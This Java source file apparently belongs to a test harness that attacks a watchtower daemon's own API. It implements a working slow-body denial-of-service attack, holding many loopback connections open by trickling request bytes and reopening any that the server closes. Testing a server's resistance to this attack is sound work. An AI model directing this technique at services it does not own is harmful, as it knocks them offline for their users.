package teos.teosd.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;

/** Attack: connections that send request bodies one byte at a time; closed ones are replaced. */
public final class SlowBodies implements Attack {

  private static final byte[] HEAD =
      "POST /add_appointment HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n{"
          .getBytes(StandardCharsets.US_ASCII);
  private static final int HOLDERS = 8;

  private final URI api;
  private final int share;
  private final int byteMillis;
  private final Set<Socket> open = ConcurrentHashMap.newKeySet();
  private Repeated holders = new Repeated(0, () -> {});

  /**
   * @param byteMillis pause between two bytes on a connection, milliseconds
   */
  public SlowBodies(AttackedTower tower, int connections, int byteMillis) {
    this.api = tower.api();
    this.share = connections / HOLDERS;
    this.byteMillis = byteMillis;
  }

  @Override
  public void begin() throws Exception {
    ThreadLocal<List<Socket>> held = ThreadLocal.withInitial(ArrayList::new);
    holders = new Repeated(HOLDERS, () -> sendBytes(held.get()));
    holders.await(HOLDERS);
  }

  /** Sends a byte on each of {@code held}, and replaces those that are closed. */
  private void sendBytes(List<Socket> held) throws Exception {
    if (!held.isEmpty()) {
      Thread.sleep(byteMillis);
    }
    held.removeIf(socket -> !writeByte(socket));
    while (held.size() < share) {
      Socket socket = new Socket(InetAddress.getLoopbackAddress(), api.getPort());
      held.add(socket);
      open.add(socket);
      socket.getOutputStream().write(HEAD);
    }
  }

  private boolean writeByte(Socket socket) {
    try {
      socket.getOutputStream().write(' ');
      return true;
    } catch (IOException e) {
      open.remove(socket); // closed by the tower
      return false;
    }
  }

  @Override
  public void close() throws IOException {
    holders.close();
    for (Socket socket : open) {
      socket.close();
    }
  }
}
